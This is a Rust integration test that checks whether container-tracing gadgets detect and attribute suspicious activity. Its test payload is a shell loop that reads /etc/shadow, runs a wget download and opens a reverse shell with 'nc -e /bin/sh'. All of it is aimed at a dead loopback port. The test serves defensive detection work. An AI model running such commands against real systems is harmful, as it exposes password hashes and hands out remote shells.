//! The question that began it: is anything suspicious going on? A container reads what it should not, downloads a
//! program and opens a shell to the outside; three gadgets, started as an assistant would, each find it and name the
//! container.

use std::time::Duration;

use gadgetry_tests::client::{self, Steps};
use gadgetry_tests::container;
use gadgetry_tests::host::Host;
use serde_json::{Value, json};

const IMAGES: &str = "-gadget-images=trace_exec,trace_open,snapshot_process";
/// Nobody listens on port 1 of loopback: nothing is downloaded and no shell is given away; the attempts are what counts.
/// It ends when it is told to by a file, and by itself, whatever becomes of the test.
const SUSPICIOUS: &str = "n=0; while [ ! -e /tmp/stop ] && [ $n -lt 60 ]; do n=$((n+1)); cat /etc/shadow; \
    wget -q -O /tmp/x http://127.0.0.1:1/x; nc -w 1 127.0.0.1 1 -e /bin/sh; sleep 0.3; done";

/// The rows of a tool's result that happened in the container.
fn of<'a>(result: &'a Value, container: &str) -> Vec<&'a Value> {
    let rows = result["structuredContent"]["rows"].as_array();
    let rows = rows.unwrap_or_else(|| panic!("no rows in {result}"));
    rows.iter().filter(|row| row["container"]["id"] == container).collect()
}

#[test]
fn suspicious_activity_is_found_and_named() {
    let host = Host::new();
    let folder = tempfile::tempdir().expect("a folder");
    for runtime in ["crun", "runc"] {
        let name = container::name(&format!("suspicious-{runtime}"));
        let stop = folder.path().join("rootfs/tmp/stop");
        let mut running = container::start(runtime, folder.path(), &name, &["sh", "-c", SUSPICIOUS]);
        std::thread::sleep(Duration::from_millis(1500));
        let steps = Steps::new()
            .call("snapshot_process", json!({}))
            .call("trace_exec", json!({"duration": 4, "container": [name]}))
            .and_call("trace_open", json!({"duration": 4, "container": [name]}));
        let seen = client::stdio(&host, "auto", &[IMAGES], steps);
        std::fs::write(&stop, "").expect("the container's folder");
        running.wait().expect("the container ends");
        std::fs::remove_file(&stop).expect("the container's folder");
        let [processes, programs, files] = &seen.results[..] else { panic!("{:?}", seen.results) };

        let processes = of(processes, &name);
        assert!(processes.iter().any(|row| row["comm"] == "sh"), "{runtime}: {processes:?}");
        let programs = of(programs, &name);
        let ran = |program: &str| programs.iter().any(|row| row["args"][0] == program);
        assert!(ran("wget") && ran("nc") && ran("cat"), "{runtime}: {programs:?}");
        let files = of(files, &name);
        assert!(files.iter().any(|row| row["path"] == "/etc/shadow"), "{runtime}: {files:?}");
        for row in processes.iter().chain(&programs).chain(&files) {
            assert_eq!(row["container"]["runtime"], runtime, "{row}");
        }
    }
}
